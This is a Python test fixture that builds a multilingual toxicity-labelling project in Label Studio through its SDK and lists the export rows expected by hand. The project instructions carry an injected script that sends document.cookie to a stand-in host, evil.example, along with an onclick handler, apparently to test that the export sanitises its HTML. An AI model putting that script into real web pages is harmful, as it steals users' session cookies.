"""A realistic Label Studio project, filled through the SDK, with what it should read back.

Every annotation below states the judgment rows the pull must produce, written out by
hand (not computed by the code under test).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

LABEL_CONFIG = """<View>
  <Text name="text" value="$text"/>
  <Choices name="toxicity" toName="text" choice="single-radio">
    <Choice value="Toxic" alias="toxic"/>
    <Choice value="Not toxic" alias="not_toxic"/>
    <Choice value="Can't tell" alias="unsure"/>
  </Choices>
  <Choices name="topics" toName="text" choice="multiple">
    <Choice value="politics"/>
    <Choice value="religion"/>
    <Choice value="sport"/>
  </Choices>
  <Rating name="offensiveness" toName="text" maxRating="5"/>
  <Text name="response_a" value="$response_a"/>
  <Text name="response_b" value="$response_b"/>
  <Pairwise name="preference" toName="response_a,response_b"/>
  <TextArea name="comment" toName="text"/>
</View>"""

EXPECTED_SCHEMA = {
    "fields": {
        "toxicity": {
            "level": "nominal",
            "values": ["toxic", "not_toxic", "unsure"],
            "kind": "single",
        },
        "topics": {
            "level": "nominal",
            "values": ["politics", "religion", "sport"],
            "kind": "multi",
        },
        "offensiveness": {"level": "ordinal", "values": [1, 2, 3, 4, 5], "kind": "single"},
        "preference": {"level": "nominal", "values": ["left", "right"], "kind": "pairwise"},
        "comment": {"level": "nominal", "values": [], "kind": "text"},
    }
}
SCORED_FIELDS = ["toxicity", "topics", "offensiveness", "preference"]

INSTRUCTIONS = (
    "<h1>Toxicity guidelines</h1>"
    "<p>Mark a comment <b>toxic</b> when it insults a person or a group.</p>"
    "<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>"
    '<p onclick="steal()">Use <i>Can\'t tell</i> when you do not know the dialect.</p>'
)

TASKS = [
    {"text": "You people never learn anything.", "language": "en"},
    {"text": "Ihr seid alle gleich, typisch.", "language": "de"},
    {"text": "Qué partido tan aburrido anoche.", "language": "es"},
    {"text": "Wewe ni mjinga kabisa.", "language": "sw"},
    {"text": "यह बहस धर्म के बारे में है।", "language": "hi"},
    {"text": "هذا النقاش عن السياسة فقط.", "language": "ar"},
]
for _t in TASKS:
    _t["response_a"] = "Reply A to: " + _t["text"]
    _t["response_b"] = "Reply B to: " + _t["text"]

#: username, email (annotators are created with these; emails must not reach the bundle)
USERS = {
    "kofi": "kofi.mensah@annotators.test",
    "ana": "ana.garcia@annotators.test",
    "li": "li.wei@annotators.test",
    "sara": "sara.schmidt@annotators.test",
}

#: annotator metadata keyed by email (one annotator has none; one row matches nobody)
METADATA_CSV = (
    "email,first_name,country,region,languages\n"
    "Kofi.Mensah@annotators.test,Kofi,GH,Africa,en;tw\n"
    "ana.garcia@annotators.test,Ana,MX,Latin America and the Caribbean,es;en\n"
    "li.wei@annotators.test,Li,CN,Asia,zh;en\n"
    "someone.else@annotators.test,Someone,FR,Europe,fr\n"
)


def choices(name: str, *vals: str) -> dict:
    return {
        "from_name": name,
        "to_name": "text",
        "type": "choices",
        "value": {"choices": list(vals)},
    }


def rating(name: str, n: int) -> dict:
    return {"from_name": name, "to_name": "text", "type": "rating", "value": {"rating": n}}


def pairwise(side: str) -> dict:
    return {
        "from_name": "preference",
        "to_name": "response_a,response_b",
        "type": "pairwise",
        "value": {"selected": side},
    }


def textarea(text: str) -> dict:
    return {
        "from_name": "comment",
        "to_name": "text",
        "type": "textarea",
        "value": {"text": [text]},
    }


@dataclass
class Ann:
    task: int  # index into TASKS
    user: str  # key of USERS
    results: list[dict]
    rows: list[tuple[str, Any]]  # expected (field, label) rows
    lead_time: float
    cancelled: bool = False
    via_api: bool = False  # posted by the admin for the user: on behalf


ANNOTATIONS = [
    Ann(
        0,
        "kofi",
        [
            choices("toxicity", "toxic"),
            choices("topics", "politics", "religion"),
            rating("offensiveness", 4),
            pairwise("left"),
            textarea("insulting"),
        ],
        [
            ("toxicity", "toxic"),
            ("topics", ["politics", "religion"]),
            ("offensiveness", 4.0),
            ("preference", "left"),
        ],
        12.5,
    ),
    Ann(
        0,
        "ana",
        [
            choices("toxicity", "toxic"),
            choices("topics", "politics"),
            rating("offensiveness", 3),
            pairwise("right"),
        ],
        [
            ("toxicity", "toxic"),
            ("topics", ["politics"]),
            ("offensiveness", 3.0),
            ("preference", "right"),
        ],
        9.0,
    ),
    Ann(0, "li", [], [], 3.0, cancelled=True),
    Ann(
        1,
        "kofi",
        [choices("toxicity", "not_toxic"), rating("offensiveness", 2)],
        [("toxicity", "not_toxic"), ("offensiveness", 2.0)],
        7.25,
    ),
    Ann(
        1,
        "sara",
        [choices("toxicity", "toxic"), choices("topics", "religion"), rating("offensiveness", 5)],
        [("toxicity", "toxic"), ("topics", ["religion"]), ("offensiveness", 5.0)],
        20.0,
    ),
    # unknown choice: kept as given
    Ann(
        1,
        "li",
        [choices("toxicity", "rude"), rating("offensiveness", 3)],
        [("toxicity", "rude"), ("offensiveness", 3.0)],
        6.0,
    ),
    Ann(
        2,
        "ana",
        [choices("toxicity", "not_toxic"), choices("topics", "sport"), pairwise("left")],
        [("toxicity", "not_toxic"), ("topics", ["sport"]), ("preference", "left")],
        5.5,
    ),
    Ann(
        2,
        "sara",
        [choices("toxicity", "unsure"), textarea("sarcasm?")],
        [("toxicity", "unsure")],
        11.0,
    ),
    # two values on a single-choice control: a list label on a single field
    Ann(
        3,
        "kofi",
        [choices("toxicity", "toxic", "unsure"), rating("offensiveness", 5)],
        [("toxicity", ["toxic", "unsure"]), ("offensiveness", 5.0)],
        14.0,
    ),
    Ann(3, "li", [], [], 1.5, cancelled=True),
    # unknown from_name: passed through as its own field
    Ann(
        4,
        "ana",
        [choices("toxicity", "not_toxic"), choices("sentiment", "neutral")],
        [("toxicity", "not_toxic"), ("sentiment", "neutral")],
        8.0,
    ),
    Ann(
        4,
        "li",
        [choices("toxicity", "not_toxic"), choices("topics", "religion")],
        [("toxicity", "not_toxic"), ("topics", ["religion"])],
        10.0,
        via_api=True,
    ),
    Ann(
        5,
        "sara",
        [choices("toxicity", "toxic"), rating("offensiveness", 1)],
        [("toxicity", "toxic"), ("offensiveness", 1.0)],
        4.0,
        via_api=True,
    ),
]
# task 5 also gets no other annotation; every other task has two or three


@dataclass
class FilledProject:
    project_id: int
    task_ids: list[int]  # aligned with TASKS
    user_ids: dict[str, int]  # USERS key -> Label Studio user id
    expected_rows: list[tuple] = field(default_factory=list)


def expected_rows(task_ids: list[int], user_ids: dict[str, int]) -> list[tuple]:
    """(item_id, annotator_id, field, label, lead_time_s, on_behalf) rows, sorted."""
    rows = []
    for a in ANNOTATIONS:
        item, user = str(task_ids[a.task]), str(user_ids[a.user])
        pairs = [(f, None) for f in SCORED_FIELDS] if a.cancelled else a.rows
        for fld, label in pairs:
            rows.append((item, user, fld, label, a.lead_time, a.via_api))
    return sorted(rows, key=row_key)


def row_key(row: tuple) -> tuple:
    return (row[0], row[1], row[2], repr(row[3]))


def fill_project(client: Any) -> FilledProject:
    """Create users, the project, tasks and annotations through the SDK."""
    existing = {u.email: u.id for u in client.users.list()}
    user_ids = {}
    for username, email in USERS.items():
        if email in existing:
            user_ids[username] = existing[email]
        else:
            user_ids[username] = client.users.create(username=username, email=email).id
    project = client.projects.create(
        title="Toxicity, multilingual", label_config=LABEL_CONFIG, expert_instruction=INSTRUCTIONS
    )
    payload = []
    for i, data in enumerate(TASKS):
        anns = [
            {
                "completed_by": user_ids[a.user],
                "result": a.results,
                "was_cancelled": a.cancelled,
                "lead_time": a.lead_time,
            }
            for a in ANNOTATIONS
            if a.task == i and not a.via_api
        ]
        payload.append({"data": data, "annotations": anns})
    client.projects.import_tasks(id=project.id, request=payload)
    by_text = {
        t.data["text"]: t.id for t in client.tasks.list(project=project.id, page=1, page_size=100)
    }
    task_ids = [by_text[t["text"]] for t in TASKS]
    for a in ANNOTATIONS:
        if a.via_api:
            client.annotations.create(
                id=task_ids[a.task],
                result=a.results,
                completed_by=user_ids[a.user],
                lead_time=a.lead_time,
                was_cancelled=a.cancelled,
            )
    return FilledProject(project.id, task_ids, user_ids, expected_rows(task_ids, user_ids))
